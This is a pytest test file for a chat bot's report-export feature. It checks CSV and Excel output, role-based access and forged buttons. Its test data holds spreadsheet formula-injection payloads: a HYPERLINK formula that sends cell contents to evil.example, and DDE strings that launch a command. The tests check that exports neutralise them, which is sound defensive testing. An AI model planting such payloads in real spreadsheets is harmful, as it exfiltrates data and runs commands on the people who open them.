"""/export: from the first typed word to the file, with every word as it was typed, and for those only who may."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from bot.domain import buttons as b
from bot.domain.people import Role
from bot.domain.tables import unguarded
from bot.domain.views import NotAllowed, OldButton
from bot.rehearsal.people import Player

from .conftest import Staged
from .network import write
from .review_town import sent, told, write_town
from .stage import Stage, answers, labels, text_of

QUESTIONS = """
title: {en: Progress report}
questions:
  - {id: state, type: choice, means: state, each: target, required: true, ask: {en: What is there?},
     short: {en: State}, choices: {measured: {en: A measured figure}, none: {en: Nothing yet}}}
  - {id: result, type: number, means: result, each: target, when: {state: [measured]}, required: true,
     ask: {en: What is the figure?}, short: {en: Result}}
  - {id: note, type: text, means: words, each: target, ask: {en: Is there a remark?}, short: {en: Remark}}
  - {id: worked, type: text, means: worked, ask: {en: What worked?}, short: {en: What worked}}
  - {id: learnt, type: city, means: learnt, ask: {en: From which city?}, short: {en: Learnt from}}
  - {id: anything, type: text, ask: {en: Anything else?}, short: {en: Anything else}}
"""
REMARK = '=HYPERLINK("http://evil.example?"&A1,"click me")'
WORKED = "<r><t>+cmd|' /C calc'!A0</t></r>"
REASON = "'@SUM(1+1)*cmd|' /C calc'!A0"
LOST = "=zzqx+wwvk"


@pytest.fixture
async def stage(staged: Staged, tmp_path: Path) -> AsyncIterator[Stage]:
    """Two cities with promises, Surabaya in Indonesia and Naga in the Philippines."""
    knowledge, schedules = write_town(tmp_path)
    write(schedules, "questionnaires/progress.yaml", QUESTIONS)
    async with staged(knowledge, schedules=schedules) as stage:
        yield stage


@pytest.fixture
async def reported(stage: Stage, aiko: Player, sari: Player) -> Stage:
    """Sari typed a report for Surabaya, and Aiko accepted it."""
    for player in (aiko, sari):
        await stage.ask(player, "/help")
    await stage.appoint(sari, Role.FOCAL_POINT, "surabaya")
    await stage.ask(sari, "/report")
    await stage.press(sari, "A measured figure")
    await stage.ask(sari, "-32,4 %")
    await stage.ask(sari, REMARK)
    await stage.ask(sari, WORKED)
    await stage.ask(sari, "Naga")
    await stage.press(sari, "I don’t know yet")
    await stage.press(sari, "Leave it empty, with a reason")
    await stage.ask(sari, REASON)
    assert "Sent to the secretariat" in await stage.press(sari, "Send to the secretariat")
    ((number,),) = stage.sql("SELECT id FROM reports")
    for move in (b.ReviewMove.OPEN, b.ReviewMove.ACCEPT):
        await stage.forge(aiko, b.ReviewDo(1, move, number))
    assert stage.sql("SELECT state FROM reports") == [("accepted",)]
    return stage


async def english(stage: Stage, player: Player) -> None:
    """They are of the secretariat, and read English."""
    await stage.ask(player, "/help")
    await stage.forge(player, b.SetLanguage("en"), 999_999)
    await stage.appoint(player, Role.SECRETARIAT)


async def exported(stage: Stage, player: Player, *choices: str) -> tuple[str, bytes]:
    """Chooses one thing after another; name and bytes of the file that comes."""
    before = len(player.messages())
    await stage.ask(player, "/export")
    screen = player.messages()[-1].id
    for choice in choices:
        await stage.press(player, choice, screen)
    newest = player.messages()[-1]
    assert len(player.messages()) > before + 2, answers(player)[-1]
    document = newest.content["document"]
    assert document["file_name"], newest.content
    return document["file_name"], stage.emulator.bot.files[document["file_id"]].content


def as_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    for row in rows:
        assert not [cell for cell in row if cell.startswith(("=", "+", "@"))]
    return [{key: unguarded(cell) for key, cell in zip(header, row, strict=True)} for row in rows]


def as_excel(content: bytes) -> list[dict[str, Any]]:
    header, *rows = load_workbook(io.BytesIO(content)).active.iter_rows()
    assert not [cell for row in rows for cell in row if cell.data_type == "f" or cell.hyperlink]
    texts = [[unescape(c.value) if isinstance(c.value, str) else c.value for c in row] for row in rows]
    return [dict(zip([c.value for c in header], row, strict=True)) for row in texts]


async def test_what_a_focal_point_typed_is_in_the_table_letter_by_letter(
    reported: Stage, aiko: Player
) -> None:
    name, content = await exported(reported, aiko, "Answers", "CSV", "Reports of this year")
    assert name == "answers-open.csv"
    typed = {row["key"]: row for row in as_csv(content)}
    assert typed["result@2007a"]["number"] == "-32.4"
    assert typed["result@2007a"]["words_typed"] == "-32,4 %"
    assert typed["note@2007a"]["value"] == typed["note@2007a"]["words_typed"] == REMARK
    assert typed["worked"]["value"] == WORKED
    assert (typed["anything"]["answer_state"], typed["anything"]["reason"]) == ("unknown", REASON)
    caption = answers(aiko)[-1]
    assert "Answers" in caption
    assert "Reports of this year" in caption
    assert "6 rows" in caption


async def test_excel_has_the_same_words_and_real_numbers(reported: Stage, aiko: Player) -> None:
    name, content = await exported(reported, aiko, "Answers", "Excel (side by side)", "All cycles")
    assert name == "answers-wide.xlsx"
    (row,) = as_excel(content)
    assert (row["result_2007a"], row["result_2007a_unit"]) == (-32.4, "%")
    assert (row["note_2007a"], row["worked"], row["learnt"]) == (REMARK, WORKED, "naga")
    _, content = await exported(reported, aiko, "Results", "Excel", "All cycles")
    (row,) = as_excel(content)
    assert (row["city"], row["result"], row["status"], row["share"]) == ("surabaya", -32.4, "exceeded", 108)
    assert (row["words_typed"], row["result_text"]) == ("-32,4 %", REMARK)


async def test_who_learnt_from_whom_is_a_table(reported: Stage, aiko: Player) -> None:
    _, content = await exported(reported, aiko, "Ideas taken over", "CSV", "All cycles")
    (row,) = as_csv(content)
    assert (row["city"], row["learnt_from"], row["words_typed"], row["cycle"]) == (
        "surabaya",
        "naga",
        "Naga",
        "open",
    )


async def test_questions_and_misses_have_the_words_and_not_who_wrote_them(
    stage: Stage, aiko: Player, sari: Player
) -> None:
    await stage.ask(aiko, "/help")
    await stage.ask(sari, LOST)
    await stage.press(sari, "Ask the secretariat")
    assert "on its way" in text_of(sari) or stage.sql("SELECT count(*) FROM questions") == [(1,)]
    for table in ("Not found", "Questions"):
        _, content = await exported(stage, aiko, table, "CSV")
        (row,) = as_csv(content)
        assert row["words"] == LOST
        for private in (str(sari.person.id), "Sari"):
            assert private not in content.decode()


async def test_the_tables_are_reached_from_the_start(stage: Stage, aiko: Player) -> None:
    await stage.ask(aiko, "/start")
    asked = await stage.press(aiko, "📤 Tables")
    assert "Choose a table" in asked
    assert await stage.ask(aiko, "/export") == asked


async def test_plain_words_lead_those_to_the_screens_who_may_use_them(
    reported: Stage, aiko: Player, sari: Player
) -> None:
    for words, command in (
        ("How do I publish the report?", "/publish"),
        ("导出", "/export"),
        ("comment importer un tableau", "/import"),
    ):
        assert await reported.ask(aiko, words) == await reported.ask(aiko, command)
        assert "I found nothing" in await reported.ask(sari, words), "a focal point asks the library"


@pytest.mark.parametrize(
    ("choices", "said"),
    [
        (("Questions", "CSV"), "There is nothing of it yet."),
        (("Announcements",), "There is nothing of it yet."),
        (("Published reports", "CSV", "Reports of this year"), "There is nothing of it in this cycle yet."),
    ],
    ids=["questions", "before a format is chosen", "in a cycle"],
)
async def test_where_there_is_nothing_it_says_so_kindly_and_offers_other_tables(
    stage: Stage, aiko: Player, choices: tuple[str, ...], said: str
) -> None:
    await stage.ask(aiko, "/export")
    for choice in choices:
        shown = await stage.press(aiko, choice)
    assert said in shown
    assert "⚠️" not in shown
    assert "📤 Other tables" in labels(aiko)
    assert not [message for message in aiko.messages() if "document" in message.content]


async def test_results_of_one_cycle_say_that_what_sources_publish_is_left_out(
    reported: Stage, aiko: Player
) -> None:
    await exported(reported, aiko, "Results", "CSV", "Reports of this year")
    assert "What sources publish belongs to no cycle" in aiko.messages()[-1].content["caption"]
    await exported(reported, aiko, "Results", "CSV", "All cycles")
    assert "What sources publish" not in aiko.messages()[-1].content["caption"]


async def test_a_reviewer_of_one_country_gets_the_rows_of_its_cities_only(
    reported: Stage, aiko: Player, wei: Player
) -> None:
    other = await sent(reported, aiko, told(aiko, "-12"), "naga")
    for move in (b.ReviewMove.OPEN, b.ReviewMove.ACCEPT):
        await reported.forge(aiko, b.ReviewDo(1, move, other.id))
    await english(reported, wei)
    reported.sql("UPDATE memberships SET countries = '[\"PH\"]' WHERE person = ?", wei.person.id)
    for table in ("Results", "Answers", "Commitments", "Cities"):
        choices = (table, "CSV") + (("All cycles",) if table in ("Results", "Answers") else ())
        _, mine = await exported(reported, wei, *choices)
        assert "Only cities that you look after are in it." in answers(wei)[-1]
        _, everything = await exported(reported, aiko, *choices)
        assert "ID" in everything.decode()
        rows = as_csv(mine)
        assert rows
        assert {row["country"] for row in rows} == {"PH"}


async def test_whoever_loses_the_role_meanwhile_gets_nothing(reported: Stage, wei: Player) -> None:
    await english(reported, wei)
    await reported.ask(wei, "/export")
    await reported.press(wei, "Results")
    await reported.press(wei, "CSV")
    screen = wei.messages()[-1].id
    await reported.appoint(wei, Role.VISITOR)
    await reported.press(wei, "All cycles", screen)
    assert not [message for message in wei.messages() if "document" in message.content]


async def test_others_have_no_tables(reported: Stage, sari: Player) -> None:
    assert await reported.ask(sari, "/export") == reported.says(NotAllowed())
    for button in (b.ExportAsk("", ""), b.ExportAsk("r", "c"), b.ExportDo("r", "c", "")):
        assert await reported.forge(sari, button, 999_999) == reported.says(NotAllowed())


@pytest.mark.parametrize(
    "button",
    [
        b.ExportAsk("z", ""),
        b.ExportAsk("r", "q"),
        b.ExportAsk("c", "y"),
        b.ExportDo("c", "y", ""),
        b.ExportDo("z", "c", ""),
        b.ExportDo("r", "c", "0a1b2c3d"),
    ],
)
async def test_a_forged_or_old_button_makes_nothing(stage: Stage, aiko: Player, button: b.Button) -> None:
    await stage.ask(aiko, "/help")
    assert await stage.forge(aiko, button, 999_999) == stage.says(OldButton())
    assert stage.sql("SELECT count(*) FROM long_works") == [(0,)]


async def test_the_screens_speak_the_reader_s_language(reported: Stage, aiko: Player) -> None:
    await reported.forge(aiko, b.SetLanguage("zh"), 999_999)
    assert "导出表格" in await reported.ask(aiko, "/export")
    assert "结果" in labels(aiko)
    await reported.press(aiko, "结果")
    await reported.press(aiko, "CSV")
    await reported.press(aiko, "所有周期")
    assert "1行" in answers(aiko)[-1]
    newest = aiko.messages()[-1].content["document"]
    content = reported.emulator.bot.files[newest["file_id"]].content
    assert content.decode("utf-8-sig").startswith("city,city_name,country,"), (
        "data is the same in every language"
    )
